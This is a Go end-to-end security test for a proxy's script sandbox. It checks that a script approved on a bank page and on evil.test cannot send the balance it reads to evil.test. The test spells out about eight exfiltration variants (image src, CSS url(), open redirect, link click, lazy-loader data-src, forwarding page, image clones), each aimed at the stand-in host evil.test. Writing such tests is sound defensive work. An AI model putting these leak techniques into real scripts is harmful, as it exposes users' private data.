package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// OPEN-ITEMS 99: a remixlet's own sites were exempt from every send rule. The person approved
// one to run on bank.test and on evil.test (or on every site); on bank.test it reads the
// balance and writes an image, a stylesheet url(), a link the person clicks, a same-origin
// image through the site's open redirect, a same-origin link its forwarding page follows, or clones of a comment's image from evil.test — each
// to evil.test, carrying what it read. The approval names where a remixlet runs, not where it
// may send: on a page of bank.test only bank.test's site (and hosts the person granted with a
// fetch: permission) may receive what it writes. Controls: a remixlet whose other site is a
// subdomain of the page's site loads from it, and one granted fetch:evil.test loads from
// evil.test.

const ownSitesPage = `<!doctype html><html><head><meta charset="utf-8"><title>Bank</title>
<style>#box { min-height: 20px; min-width: 20px; }</style></head><body>
<h1>Your account</h1><p>Balance: <span id="balance">4711</span></p>
<div id="card"><img src="https://evil.test/planted" alt="a comment's image" width="10" height="10"><span>a comment</span></div>
<div id="box"></div><p id="err"></p><p id="done"></p>
<script>
// The site's lazy loader: an element's data-src becomes an image.
new MutationObserver((ms) => {
  for (const m of ms) for (const n of m.addedNodes) {
    if (n.nodeType === 1 && n.dataset.src) { const i = new Image(); i.src = n.dataset.src; document.body.append(i); }
  }
}).observe(document.body, {childList: true, subtree: true});
</script></body></html>`

const ownSitesScript = `const secret = (await dom.text(await dom.query('#balance'))).trim();
const box = await dom.query('#box');
try {
%s
} catch (e) {
  await dom.setText(await dom.query('#err'), String(e));
}
await dom.setText(await dom.query('#done'), 'done');
`

// ownSitesErr is what the remixlet caught, on its page ("" elsewhere).
const ownSitesErr = `(document.getElementById('err') || {}).textContent || ''`

func ownSitesManifest(name string, matches []string, perms string) []byte {
	m := strings.Join(matches, `", "`)
	return []byte(fmt.Sprintf(`{"name": %q, "description": "Own sites e2e.", "api": 1, "matches": ["%s"], "permissions": [%s]}`, name, m, perms))
}

func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
	evil := &witness{}
	sub := &witness{}
	sites, p, tab := e2etest.StartProxied(t, map[string]http.Handler{
		"bank.test": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch {
			case r.URL.Path == "/go":
				// The site's forwarding page ("you are leaving bank.test").
				htmlPage(w, `<!doctype html><html><head><title>Leaving</title></head><body><script>location.href = new URLSearchParams(location.search).get('to');</script></body></html>`)
			case r.URL.Path == "/r":
				http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			case strings.HasPrefix(r.URL.Path, "/v/"):
				htmlPage(w, ownSitesPage)
			default:
				w.WriteHeader(http.StatusNoContent)
			}
		}),
		"evil.test":     evil,
		"img.bank.test": sub,
	}, e2etest.WithStore())

	// Each remixlet reads secret from the page first; its script is ownSitesScript around body.
	type variant struct {
		name    string
		body    string
		matches []string // nil: its page and evil.test
		perms   string
		want    string // the path that must not reach evil.test ("" for the controls)
		control string // the host and path that must be reached
	}
	img := func(addr string) string {
		return `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: ` + addr + ` } }));`
	}
	variants := []variant{
		{name: "img", body: img(`'https://evil.test/img/' + secret`), want: "/img/4711"},
		{name: "css", body: `await dom.addStyle('#box { background-image: url(https://evil.test/css/' + secret + '); }');`, want: "/css/4711"},
		{name: "redir", body: img(`'/r?to=' + encodeURIComponent('https://evil.test/redir/' + secret)`), want: "/redir/4711"},
		{name: "link", body: `await dom.insert(box, await dom.create({ tag: 'a', attrs: { id: 'rxlink', href: 'https://evil.test/link/' + secret }, text: 'your statement' }));`, want: "/link/4711"},
		{name: "clone", body: `for (let i = 0; i < Number(secret[0]); i++) { await dom.insert(box, await dom.clone(await dom.query('#card'), true)); await new Promise((r) => setTimeout(r, 200)); }`, want: "/planted"},
		{name: "lazy", body: `await dom.insert(box, await dom.create({ tag: 'span', attrs: { 'data-src': 'https://evil.test/lazy/' + secret }, text: '…' }));`, want: "/lazy/4711"},
		{name: "client", body: `const a = await dom.create({ tag: 'a', attrs: { href: '/go?to=' + encodeURIComponent('https://evil.test/client/' + secret) }, text: 'next' });
await dom.insert(box, a); await dom.setText(await dom.query('#done'), 'done'); await dom.click(a);`, want: "/client/4711"},
		{name: "sheet", body: `// its style.css loads from evil.test`, want: "/sheet/static"},
		{name: "every", body: img(`'https://evil.test/every/' + secret`), matches: []string{"https://*/v/every"}, want: "/every/4711"},
		// Controls: the page's own site, and a host the person granted.
		{name: "subdomain", body: img(`'https://img.bank.test/sub/' + secret`), matches: []string{"https://bank.test/v/subdomain", "https://img.bank.test/*"}, control: "img.bank.test/sub/4711"},
		{name: "granted", body: img(`'https://evil.test/granted/' + secret`), perms: `{"name": "fetch:evil.test", "reason": "its images"}`, control: "evil.test/granted/4711"},
	}
	ids := map[string]string{}
	for _, v := range variants {
		matches := v.matches
		if matches == nil {
			matches = []string{"https://bank.test/v/" + v.name, "https://evil.test/*"}
		}
		files := store.Files{
			sandbox.ManifestFile: ownSitesManifest("own sites "+v.name, matches, v.perms),
			sandbox.ScriptFile:   []byte(fmt.Sprintf(ownSitesScript, v.body)),
		}
		if v.name == "sheet" {
			files[sandbox.StyleFile] = []byte(`#box { background-image: url(https://evil.test/sheet/static); }`)
		}
		ids[v.name] = saveUnchecked(t, p.Store, "own sites "+v.name, files).ID
	}

	for _, v := range variants {
		before := sites.Requests("evil.test", "/planted")
		tab.Navigate("https://bank.test/v/" + v.name)
		if v.name != "client" { // it leaves the page at once
			tab.WaitConnected()
		}
		if err := waitTrue(tab, 30*time.Second, `document.getElementById('done') === null || document.getElementById('done').textContent === 'done'`); err != nil {
			t.Errorf("%s: the remixlet did not run: %v\nlog:\n%s", v.name, err, remixletLog(t, p.Store, ids[v.name]))
			continue
		}
		if v.name == "link" && e2etest.Eval[bool](tab, `document.getElementById('rxlink') !== null`) {
			personClick(t, tab, "#rxlink")
		}
		time.Sleep(2 * time.Second)
		if v.control != "" {
			host, path, _ := strings.Cut(v.control, "/")
			for deadline := time.Now().Add(10 * time.Second); sites.Requests(host, "/"+path) == 0; time.Sleep(100 * time.Millisecond) {
				if time.Now().After(deadline) {
					t.Errorf("%s: the remixlet's image from %s did not load (a false refusal)\nerr: %s\nlog:\n%s", v.name, v.control,
						e2etest.Eval[string](tab, ownSitesErr), remixletLog(t, p.Store, ids[v.name]))
					break
				}
			}
			continue
		}
		n := sites.Requests("evil.test", v.want)
		if v.name == "clone" {
			n -= before + 1 // the page's own load of the comment's image
		}
		if n > 0 {
			t.Errorf("BUG: %s: the remixlet, approved on bank.test and evil.test, sent what it read on bank.test to evil.test (%d requests):\n  %s\nerr: %s\nlog:\n%s",
				v.name, n, strings.Join(evil.requests(), "\n  "), e2etest.Eval[string](tab, ownSitesErr), remixletLog(t, p.Store, ids[v.name]))
		}
	}
}
